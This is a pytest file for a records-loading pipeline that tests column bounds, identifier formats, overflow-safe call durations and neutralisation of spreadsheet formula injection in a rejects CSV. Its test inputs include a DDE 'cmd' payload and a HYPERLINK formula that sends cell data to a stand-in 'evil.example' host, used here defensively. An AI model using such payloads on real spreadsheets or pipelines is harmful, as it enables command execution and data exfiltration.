"""The contract's bounds: every column has one, shapes and ranges are enforced by the
cell helpers and parsers, sums cannot overflow, the rejects file is safe to open."""

from __future__ import annotations

import csv

import pytest
from loaderdata import CALLS, ESTABLISHMENTS, PRISONERS, small_world, write

from loaders import bounds, calls, persons, prisoners
from loaders import normalise as norm
from loaders.contract import (
    BOUNDS,
    CALL_SECONDS_MAX,
    COLUMN_KINDS,
    CONTRACT,
    DEPENDS_ON,
    INT64_MAX,
    SUBJECT_ID_KINDS,
    SUBJECT_SOURCES,
)
from loaders.csvsource import SourceRow
from loaders.rejects import Reject, RejectWriter, read_rejects, safe_cell
from loaders.rows import RowError
from loaders.runner import load_directory


def test_every_contract_column_has_a_declared_bound():
    for file, spec in CONTRACT.items():
        for column in (*spec["required"], *spec["optional"]):
            assert COLUMN_KINDS.get(column) in BOUNDS, (file, column)
    assert set(SUBJECT_ID_KINDS) >= set(SUBJECT_SOURCES) and set(SUBJECT_ID_KINDS.values()) <= set(BOUNDS)
    assert all(b.max_length > 0 for b in BOUNDS.values())


def test_the_dependencies_follow_the_references():
    assert DEPENDS_ON["visits.csv"] == ("establishments.csv", "prisoners.csv")
    assert DEPENDS_ON["calls.csv"] == ("establishments.csv", "prisoners.csv")
    assert set(DEPENDS_ON["phones.csv"]) == {f for f, _ in SUBJECT_SOURCES.values()}
    assert "ocgs.csv" in DEPENDS_ON["links.csv"] and "ocgs.csv" in DEPENDS_ON["ocg_members.csv"]
    assert DEPENDS_ON["establishments.csv"] == DEPENDS_ON["persons.csv"] == DEPENDS_ON["ocgs.csv"] == ()


@pytest.mark.parametrize(
    "kind, good, bad",
    [
        (
            "prison_number",
            ["A1234BC", "z9999zz"],
            ["A1234B", "AB1234C", "A12345BC", "A1234B\n", "A1234BÇ", "A１２３４BC"],
        ),
        (
            "pnc_id",
            ["2012/0123456X", "85/123456A", "80/1a"],
            ["2012-0123456X", "2012/01234567X", "12/X", "2012/123\x07X"],
        ),
        ("staff_number", ["S10001", "HR-42/7", "s.1_2"], ["-S1", "S 1", "=S1", "S" * 21, "S\t1"]),
        ("call_id", ["C000000001", "CDR 2024/1#7", "a" * 64], ["=1+1", "C1\u202e", "Ç1", "a" * 65, "C\x001"]),
        (
            "identifier",
            ["V482423", "HMP-KNG", "Dvořák-1", "IR-2024-000072"],
            ["@V1", "-1", "V\u200b1", "V\t1", "x" * 65],
        ),
    ],
)
def test_identifier_shapes(kind, good, bad):
    for value in good:
        assert bounds.check("c", value, kind) == value
    for value in bad:
        with pytest.raises(RowError) as error:
            bounds.check("c", value, kind)
        assert error.value.column == "c" and error.value.kind in ("invalid", "out_of_bounds"), value


def test_a_value_over_its_length_is_a_reject_whose_reason_stays_short():
    with pytest.raises(RowError) as error:
        bounds.check("surname", "x" * 1_000_000)
    assert error.value.kind == "out_of_bounds" and "1,000,000 characters" in error.value.reason
    assert len(error.value.reason) < 200
    assert bounds.check("surname", "x" * BOUNDS["name"].max_length)


def test_the_cell_helpers_enforce_the_bounds_of_every_file():
    row = {
        "prison_number": "A1234BC",
        "surname": "Smith",
        "forenames": "Jo",
        "dob": "1980-01-01",
        "establishment_code": "BXI",
        "reception_date": "2020-01-01",
    }
    assert prisoners.transform(SourceRow(2, row)).prison_number == "A1234BC"
    for column, value in [
        ("prison_number", "A1234\nBC"),
        ("prison_number", "A123"),
        ("surname", "S" * 101),
        ("pnc_id", "not a pnc"),
        ("cell_location", "B" * 33),
        ("dob", "1850-01-01"),
        ("reception_date", "2200-01-01"),
        ("establishment_code", "=cmd|' /C calc'!A0"),
        ("notes", "n" * 2001),  # a column outside the contract is free text, 2,000 at most
    ]:
        with pytest.raises(RowError) as error:
            prisoners.transform(SourceRow(2, {**row, column: value}))
        assert error.value.column == column, (column, value)
    with pytest.raises(RowError) as error:
        persons.transform(SourceRow(2, {"person_ref": "P\u200b1", "surname": "S", "forenames": "F"}))
    assert error.value.column == "person_ref"


@pytest.mark.parametrize(
    "value, ok",
    [
        ("0", True),
        ("172800", True),
        ("120.0", True),
        ("1.2e2", True),
        ("172801", False),
        ("-1", False),
        ("99999999999999999999999999", False),
        ("9223372036854775808", False),
        ("1e400", False),
        ("nan", False),
        ("inf", False),
        ("1_000", False),
        ("١٢٣", False),
        ("1" * 5000, False),
    ],
)
def test_call_durations_are_bounded_to_48_hours(value, ok):
    base = {
        "call_id": "C1",
        "caller_prison_number": "A1234BC",
        "callee_number": "07701900123",
        "started_at": "2024-01-01T10:00:00",
        "call_source": "pin",
        "privileged": "N",
    }
    if ok:
        assert 0 <= calls.transform(SourceRow(2, {**base, "duration_seconds": value})).seconds <= CALL_SECONDS_MAX
        return
    with pytest.raises(RowError) as error:
        calls.transform(SourceRow(2, {**base, "duration_seconds": value}))
    assert error.value.column == "duration_seconds"


def test_the_call_cap_keeps_any_link_total_within_int64():
    # A link's total is at most (calls on the link) * CALL_SECONDS_MAX, and each call counted
    # keeps its own id on the link: overflowing int64 would take more calls than any link holds.
    per_link = INT64_MAX // CALL_SECONDS_MAX
    assert per_link == 53_375_995_583_650
    assert per_link * CALL_SECONDS_MAX <= INT64_MAX < (per_link + 1) * CALL_SECONDS_MAX
    assert norm.integer(str(INT64_MAX), maximum=None) == INT64_MAX  # the parser itself is exact


@pytest.mark.parametrize(
    "parse, value",
    [
        (norm.iso_date, "1899-12-31"),
        (norm.iso_date, "2101-01-01"),
        (norm.iso_date, "١٩٨٥-٠٣-١٢"),
        (norm.iso_datetime, "0001-01-01T00:00:00"),
        (norm.iso_datetime, "9999-12-31T23:00:00-05:00"),
        (norm.iso_datetime, "2024-01-01T10:00:00+25:00"),
        (norm.number, "nan"),
        (norm.number, "-inf"),
        (norm.number, "1e400"),
    ],
)
def test_parsers_refuse_values_out_of_range(parse, value):
    with pytest.raises(norm.ValueProblem):
        parse(value)


def test_dates_and_date_times_in_range():
    assert norm.iso_date("1900-01-01") == "1900-01-01" and norm.iso_date("2100-12-31") == "2100-12-31"
    assert norm.iso_datetime("2024-01-01 10:00:00+01:00") == "2024-01-01T09:00:00+00:00"


def test_overflowing_durations_never_reach_the_store(store, tmp_path):
    directory = small_world(tmp_path / "in")
    write(
        directory,
        "calls.csv",
        CALLS.strip()
        + """
        C20,,B2222BB,07701900123,2024-02-06T10:00:00,99999999999999999999999999,pin,BXI,N
        C21,,B2222BB,07701900123,2024-02-06T11:00:00,9223372036854775808,pin,BXI,N
        C22,,B2222BB,07701900123,2024-02-06T12:00:00,9223372036854775807,pin,BXI,N
        C23,,B2222BB,07701900123,2024-02-06T13:00:00,172800,pin,BXI,N
        """,
    )
    report = load_directory(store, directory, report_path=tmp_path / "r.json", progress=False, resolve=False)
    rejects = read_rejects(tmp_path / "r.rejects.csv")
    assert sorted((int(r["line"]), r["column"]) for r in rejects) == [
        (6, "duration_seconds"),
        (7, "duration_seconds"),
        (8, "duration_seconds"),
    ]
    assert report.file("calls.csv").loaded == 4 and report.ok
    (pin,) = store.read_all(
        "MATCH (:Person {id: 'prisoner:B2222BB'})-[r:CALLED]->(:Phone {id: 'phone:+447701900123'}) "
        "RETURN r.total_seconds AS s, r.count AS n"
    )
    assert (pin["n"], pin["s"]) == (3, 120 + 60 + 172800)


def test_reject_cells_are_neutralised_and_escaped(tmp_path):
    assert safe_cell('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1").startswith("'"), start
    assert safe_cell("Smith") == "Smith" and safe_cell(17) == "17"
    assert safe_cell("a\x00b\nc") == "a\\x00b\\x0ac"
    assert safe_cell("x" * 1000).endswith("... (1,000 characters)")
    path = tmp_path / "rejects.csv"
    writer = RejectWriter(path, "=run")
    values = ['=HYPERLINK("http://evil","x")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok", "a\nb"]
    for i, value in enumerate(values):
        writer.add(Reject("=file.csv", i + 2, "@col", value, "-reason"))
    writer.close()
    rows = read_rejects(path)
    assert len(rows) == len(values)  # one line per reject: nothing broke the CSV
    for row, value in zip(rows, values):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert cell.isprintable(), cell
        assert row["value"].lstrip("'").replace("\\x09", "\t").replace("\\x0d", "\r").replace("\\x0a", "\n") == value
    with path.open(newline="", encoding="utf-8") as handle:
        assert sum(1 for _ in csv.reader(handle)) == len(values) + 1


def test_formula_cells_in_a_load_reach_the_rejects_file_neutralised(store, tmp_path):
    directory = tmp_path / "in"
    directory.mkdir()
    write(directory, "establishments.csv", ESTABLISHMENTS)
    write(
        directory,
        "prisoners.csv",
        PRISONERS.strip()
        + """
        "=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",Doe,John,1980-01-01,M,,BXI,2024-01-01,,
        C3333CC,=1+2,Anna,1991-01-01,F,,BXI,2024-01-01,,
        """,
    )
    report = load_directory(store, directory, report_path=tmp_path / "r.json", progress=False, resolve=False)
    (reject,) = read_rejects(tmp_path / "r.rejects.csv")
    assert (reject["line"], reject["column"]) == ("5", "prison_number")
    assert reject["value"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    # a formula-like name is just text to the graph (names have no shape rule)
    assert report.file("prisoners.csv").loaded == 4
    (name,) = store.read_all("MATCH (n {id: 'prisoner:C3333CC'}) RETURN n.surname AS s")
    assert name["s"] == "=1+2"
